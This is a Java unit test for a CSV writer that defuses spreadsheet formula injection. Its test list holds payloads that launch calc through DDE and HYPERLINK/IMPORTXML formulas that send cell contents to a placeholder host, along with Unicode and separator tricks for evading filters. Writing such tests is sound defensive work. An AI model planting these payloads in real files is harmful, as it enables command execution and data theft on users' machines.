// SPDX-License-Identifier: Apache-2.0
package org.dossierlake.job;

import static org.assertj.core.api.Assertions.assertThat;

import com.univocity.parsers.csv.CsvParser;
import com.univocity.parsers.csv.CsvParserSettings;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.dossierlake.job.Export.Separator;
import org.junit.jupiter.api.Test;

class SafeCsvTest {

    /** What a spreadsheet takes for the beginning of a formula, blanks, marks and quotes in front of it left out. */
    private static final Pattern RUNS = Pattern.compile("^[\\s\\p{Z}\\p{Cf}\"]*[=+\\-@\uFF1D\uFF0B\uFF0D\uFF20].*");

    /** Texts that a spreadsheet might run. */
    static final List<String> FORMULAS = List.of(
            "=1+1",
            "=cmd|'/c calc'!A0",
            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")",
            "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
            "=DDE(\"cmd\",\"/c calc\",\"x\")",
            "=2+5+cmd|' /C calc'!A0",
            "=\"a\"&\"b\"",
            "+1+1",
            "+cmd|'/c calc'!A0",
            "+84 912 345",
            "-1+1",
            "-2+3+cmd|'/c calc'!A0",
            "-",
            "@SUM(1,1)",
            "@example",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n=1+1",
            "\u0000=1+1",
            " =1+1",
            "\u00A0=1+1",
            "\u200B=1+1",
            "\uFEFF=1+1",
            "\u202E=1+1",
            "\u3000=1+1",
            "\"=1+1",
            "\"\"=1+1",
            "\uFF1D1+1",
            "\uFF0B1+1",
            "\uFF0D1+1",
            "\uFF20SUM(1)",
            " \uFF1D1+1",
            "a;=1+1",
            "a;\"=1+1",
            "a; =1+1;b",
            "a,=1+1",
            "a,\"=1+1",
            "a, =1+1,b",
            "a\n=1+1",
            "a\r\n@SUM(1)",
            "\",=1+1,\"",
            "\";=1+1;\"",
            "=1+1;=1+1");

    @Test
    void noTextRunsInASpreadsheetWhateverItSeparatesCellsBy() throws IOException {
        assertThat(FORMULAS).hasSizeGreaterThanOrEqualTo(40);
        List<String> running = new ArrayList<>();
        for (Separator written : Separator.values()) {
            for (String formula : FORMULAS) {
                String file = file(written, "before", formula, "after");
                assertThat(file.lines()).as("lines of %s", escaped(formula)).hasSize(1);
                for (char separator : new char[] {',', ';', '\t'}) {
                    for (String cell : parsed(file, separator)) {
                        if (cell != null && RUNS.matcher(cell).matches()) {
                            running.add(
                                    "%s with %s, split at %d".formatted(escaped(formula), written, (int) separator));
                        }
                    }
                }
            }
        }
        assertThat(running).isEmpty();
    }

    @Test
    void theTextItselfIsStillThere() throws IOException {
        for (Separator separator : Separator.values()) {
            for (String formula : FORMULAS) {
                String[] cells = parsed(
                        file(separator, "before", formula, "after"),
                        separator.mark().charAt(0));
                assertThat(cells).hasSize(3);
                assertThat(cells[1].replace("'", "").replaceAll("\\s", ""))
                        .isEqualTo(formula.replaceAll("\\p{Cntrl}", "")
                                .replace("'", "")
                                .replaceAll("\\s", ""));
            }
        }
    }

    @Test
    void typedNumbersStayNumbersAndNothingStaysNothing() throws IOException {
        Object[] cells = {7L, -3, new BigDecimal("-50000.50000"), new BigDecimal("1E+3"), 0.25, null, "-3", "0.25"};
        assertThat(file(Separator.comma, cells)).isEqualTo("\uFEFF7,-3,-50000.50000,1000,0.25,,\"'-3\",\"0.25\"\r\n");
        assertThat(file(Separator.semicolon, cells))
                .isEqualTo("\uFEFF7;-3;-50000,50000;1000;0,25;;\"'-3\";\"0.25\"\r\n");
    }

    @Test
    void plainTextsKeepWhatTheySay() throws IOException {
        String[] texts = {"Hòa Bình", "a \"b\", c", "x-1", "1;2", "a@b"};
        assertThat(file(Separator.comma, (Object[]) texts))
                .isEqualTo("\uFEFF\"Hòa Bình\",\"a \"\"b\"\", c\",\"x-1\",\"1;2\",\"a@b\"\r\n");
        assertThat(file(Separator.semicolon, (Object[]) texts))
                .isEqualTo("\uFEFF\"Hòa Bình\";\"a \"\"b\"\", c\";\"x-1\";\"1;2\";\"a@b\"\r\n");
    }

    private static String file(Separator separator, Object... cells) throws IOException {
        StringWriter out = new StringWriter();
        new SafeCsv(out, separator).row(cells);
        return out.toString();
    }

    private static String[] parsed(String file, char separator) {
        CsvParserSettings settings = new CsvParserSettings();
        settings.getFormat().setDelimiter(separator);
        settings.setIgnoreLeadingWhitespaces(false);
        settings.setIgnoreTrailingWhitespaces(false);
        settings.setNullValue("");
        settings.setKeepQuotes(false);
        return new CsvParser(settings)
                .parseAll(new StringReader(file.substring(1)))
                .get(0);
    }

    private static String escaped(String text) {
        return Stream.of(text)
                .flatMapToInt(String::chars)
                .mapToObj(c -> c < ' ' || c > '~' ? "\\u%04x".formatted(c) : String.valueOf((char) c))
                .reduce("", String::concat);
    }
}
